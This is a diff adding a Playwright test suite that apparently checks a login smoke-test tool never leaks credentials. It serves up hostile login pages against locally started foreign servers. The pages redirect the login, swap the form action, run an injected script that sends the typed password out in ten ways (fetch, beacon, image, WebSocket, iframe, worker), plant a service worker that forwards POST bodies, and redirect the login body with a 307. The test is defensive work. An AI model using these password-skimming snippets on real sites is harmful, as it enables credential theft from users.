@@ -1,0 +1,147 @@
+/** Credentials go to no host but those of the environment: pages that lead them elsewhere, and a foreign host that notes all it is told. */
+import { expect, test } from '@playwright/test';
+import { Redactor } from '../../../fixtures/report/redaction/redact.ts';
+import { answering, edited, playing, startStranger, withScript } from './hostile-pages.ts';
+import { judgeHostile, type Hostile } from './hostile-run.ts';
+import type { Play } from './hostile-server.ts';
+import { answer, changed } from './plays.ts';
+
+const rows = ['healthz-open', 'cookie-httponly', 'login-dashboard', 'page-errors'] as const;
+
+/** Caught on the way out: both the login and the page's errors tell. */
+const caught = { 'login-dashboard': 'fail', 'page-errors': 'fail' } as const;
+/** Nothing was typed, so nothing else was seen. */
+const away = { 'login-dashboard': 'fail', 'page-errors': 'not judged' } as const;
+
+/** Ways out of a page, each to a foreign host of its own: the code is given the host's origin. */
+const waysOut: readonly ((origin: string) => string)[] = [
+  to => `fetch('${to}/fetch', { method: 'POST', mode: 'no-cors', body: secret() })`,
+  to =>
+    `fetch('${to}/json', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ secret: btoa('x' + secret()) }) })`,
+  to => `navigator.sendBeacon('${to}/beacon', new Blob([secret()]))`,
+  to => `new Image().src = '${to}/image?' + encodeURIComponent(secret())`,
+  to => `new Image().src = '${to}/' + btoa(secret())`,
+  to =>
+    `{ const socket = sockets['${to}'], send = () => socket.send(secret()); if (socket.readyState === 1) send(); else socket.onopen = send; }`,
+  to => `frames_['${to}'].src = '${to}/frame?' + secret()`,
+  to => `open('${to}/window?' + secret())`,
+  to =>
+    `{ const form = document.createElement('form'); form.method = 'post'; form.action = '${to}/form'; form.target = '_blank'; const field = document.createElement('input'); field.name = 'secret'; field.value = secret(); form.append(field); document.body.append(form); form.submit(); }`,
+  to =>
+    `new Worker(URL.createObjectURL(new Blob(["onmessage = e => fetch('${to}/worker', { method: 'POST', mode: 'no-cors', body: e.data })"]))).postMessage(secret())`,
+];
+/** The page sends what was typed before the form is sent, and goes on as if nothing were; its socket and its frame are open by then. */
+const spy = (origins: readonly string[]): string => `
+  const secret = () => document.querySelector('input[type=password]').value;
+  const sockets = {}, frames_ = {};
+  for (const to of ${JSON.stringify(origins)}) {
+    sockets[to] = new WebSocket(to.replace('http', 'ws') + '/socket');
+    frames_[to] = document.body.appendChild(document.createElement('iframe'));
+    frames_[to].src = to + '/frame';
+  }
+  document.querySelector('input[type=password]').addEventListener('input', () => { ${waysOut.map((way, i) => way(origins[i] ?? '')).join(';\n')} });`;
+
+const worker = (origin: string): string => `
+  addEventListener('install', () => skipWaiting());
+  addEventListener('activate', event => event.waitUntil(clients.claim()));
+  addEventListener('fetch', event => { if (event.request.method === 'POST') event.request.clone().text().then(body => fetch('${origin}/taken', { method: 'POST', mode: 'no-cors', body })); });`;
+
+/** The page's own script only starts when the worker sees what it asks. */
+const afterWorker = (_: string, script: string): string =>
+  `<script>navigator.serviceWorker.oncontrollerchange = () => { const own = document.createElement('script'); own.src = '${script}'; document.head.append(own); }; navigator.serviceWorker.register('/worker.js');</script>`;
+
+/** Sends a browser's login on to another address, body included (RFC 9110 §15.4.8), and lets it through to the target otherwise. */
+const sentOn = (to: string): Play =>
+  changed((top, body, { head }) => {
+    if (!/^sec-fetch-mode:/im.test(head)) return Buffer.concat([Buffer.from(`${top}\r\n\r\n`, 'latin1'), body]);
+    const origin = /^origin: ([^\r]*)/im.exec(head)?.[1] ?? '*';
+    return `HTTP/1.1 307 Temporary Redirect\r\nLocation: ${to}\r\nAccess-Control-Allow-Origin: ${origin}\r\nAccess-Control-Allow-Credentials: true\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`;
+  });
+
+const cases: readonly {
+  strangers?: number;
+  hostile: (origin: string, all: readonly string[]) => Omit<Hostile, 'rows'>;
+}[] = [
+  {
+    hostile: origin => ({
+      title: 'login page is redirected to a foreign host',
+      exit: 1,
+      verdicts: away,
+      scenes: [answering('/login', answer('302 Found', [`Location: ${origin}/login`]))],
+    }),
+  },
+  {
+    hostile: origin => ({
+      title: 'login page goes on to a foreign host',
+      exit: 1,
+      verdicts: away,
+      scenes: [withScript('/login', `location.replace('${origin}/login');`)],
+    }),
+  },
+  {
+    hostile: origin => ({
+      title: 'form of the login page is sent to a foreign host',
+      exit: 1,
+      verdicts: caught,
+      scenes: [
+        edited('/login', html =>
+          html
+            .replace('action="/login"', `action="${origin}/login"`)
+            .replace('type="submit" disabled', 'type="submit"')
+            .replace(/<script src=[^>]*><\/script>/, ''),
+        ),
+      ],
+    }),
+  },
+  {
+    hostile: origin => ({
+      title: 'login is redirected to a foreign host with its body',
+      exit: 1,
+      verdicts: caught,
+      scenes: [playing('POST', '/api/v1/auth/login', sentOn(`${origin}/login`))],
+    }),
+  },
+  {
+    strangers: waysOut.length,
+    hostile: (_, origins) => ({
+      title: `login page sends the password out in ${waysOut.length} ways`,
+      exit: 1,
+      verdicts: { 'page-errors': 'fail' },
+      scenes: [withScript('/login', spy(origins))],
+      says: new RegExp(`the password was about to be sent to (?=[^\\n]*${origins.join(')(?=[^\\n]*')})`),
+    }),
+  },
+  {
+    hostile: origin => ({
+      title: 'service worker of the page sends the login on to a foreign host',
+      exit: 1,
+      verdicts: { 'page-errors': 'fail' },
+      scenes: [
+        edited('/login', html => html.replace(/<script src="([^"]*)"[^>]*><\/script>/, afterWorker)),
+        answering('/worker.js', answer('200 OK', ['Content-Type: text/javascript'], worker(origin))),
+      ],
+    }),
+  },
+];
+
+for (const { strangers = 1, hostile } of cases) {
+  test(hostile('', []).title, async () => {
+    const met = await Promise.all([...Array(strangers).keys()].map(startStranger));
+    try {
+      const origins = met.map(stranger => stranger.origin);
+      const passwords: string[] = [];
+      await judgeHostile({
+        rows,
+        ...hostile(origins[0] ?? '', origins),
+        meet: ({ SMOKE_PASSWORD = '' }) => passwords.push(SMOKE_PASSWORD),
+      });
+      const redactor = new Redactor(() => passwords);
+      for (const { told } of met)
+        for (const text of told)
+          expect(redactor.text(text, true) === text, 'the password arrived at a foreign host').toBe(true);
+      expect(passwords[0]?.length, 'there was a password to look for').toBeGreaterThan(8);
+    } finally {
+      await Promise.all(met.map(stranger => stranger.close()));
+    }
+  });
+}
